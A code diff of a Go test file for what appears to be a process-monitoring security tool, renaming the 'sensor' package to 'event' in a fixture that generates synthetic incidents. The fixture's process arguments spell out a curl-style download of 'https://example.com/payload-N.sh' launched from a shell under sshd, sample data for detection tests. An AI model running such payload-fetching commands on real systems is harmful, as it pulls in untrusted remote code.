@@ -7,8 +7,8 @@ import (
 	"testing"
 	"time"
 
+	"github.com/procwatch/procwatch/event"
 	"github.com/procwatch/procwatch/rules"
-	"github.com/procwatch/procwatch/sensor"
 )
 
 // TestMain lets the test binary double as the child processes of the crash
@@ -37,9 +37,9 @@ func fixture(t time.Time, i int) rules.Incident {
 	exe := fixtureExes[i%len(fixtureExes)]
 	rule := fixtureRules[i%len(fixtureRules)]
 	sev := rules.Severity(1 + i%5)
-	outcome := sensor.Success
+	outcome := event.Success
 	if i%7 == 0 {
-		outcome = sensor.Failure
+		outcome = event.Failure
 	}
 	typ := rules.TypeBinExecution
 	if rule == "unexpected-root" {
@@ -53,17 +53,17 @@ func fixture(t time.Time, i int) rules.Incident {
 		Type:     typ,
 		Outcome:  outcome,
 		Severity: sev,
-		Summary:  sensor.Text(fmt.Sprintf("%s ran as uid 1000 from /usr/bin/bash (#%d)", filepath.Base(exe), i)),
+		Summary:  event.Text(fmt.Sprintf("%s ran as uid 1000 from /usr/bin/bash (#%d)", filepath.Base(exe), i)),
 		Status:   rules.StatusOpen,
-		Process: sensor.Event{
-			Type: sensor.TypeExec, Time: t,
+		Process: event.Event{
+			Type: event.TypeExec, Time: t,
 			PID: uint32(10000 + i%50000), TID: uint32(10000 + i%50000), PPID: 4242, UID: 1000, EUID: 1000, GID: 1000, EGID: 1000,
-			AUID: 1000, Comm: sensor.Text(filepath.Base(exe)), Exe: sensor.Text(exe), Filename: sensor.Text(exe),
-			Args: []sensor.Text{sensor.Text(filepath.Base(exe)), "-fsSL", "--retry", "3", sensor.Text(fmt.Sprintf("https://example.com/payload-%d.sh", i))},
+			AUID: 1000, Comm: event.Text(filepath.Base(exe)), Exe: event.Text(exe), Filename: event.Text(exe),
+			Args: []event.Text{event.Text(filepath.Base(exe)), "-fsSL", "--retry", "3", event.Text(fmt.Sprintf("https://example.com/payload-%d.sh", i))},
 			Cwd:  "/home/alice/projects/site", TTY: "pts/3",
 			Cgroup:    "/user.slice/user-1000.slice/session-12.scope",
 			ParentExe: "/usr/bin/bash",
-			Ancestors: []sensor.Ancestor{{PID: 4242, Exe: "/usr/bin/bash"}, {PID: 4100, Exe: "/usr/sbin/sshd"}, {PID: 900, Exe: "/usr/sbin/sshd"}, {PID: 1, Exe: "/usr/lib/systemd/systemd"}},
+			Ancestors: []event.Ancestor{{PID: 4242, Exe: "/usr/bin/bash"}, {PID: 4100, Exe: "/usr/sbin/sshd"}, {PID: 900, Exe: "/usr/sbin/sshd"}, {PID: 1, Exe: "/usr/lib/systemd/systemd"}},
 			Outcome:   outcome,
 		},
 		Count:     1,
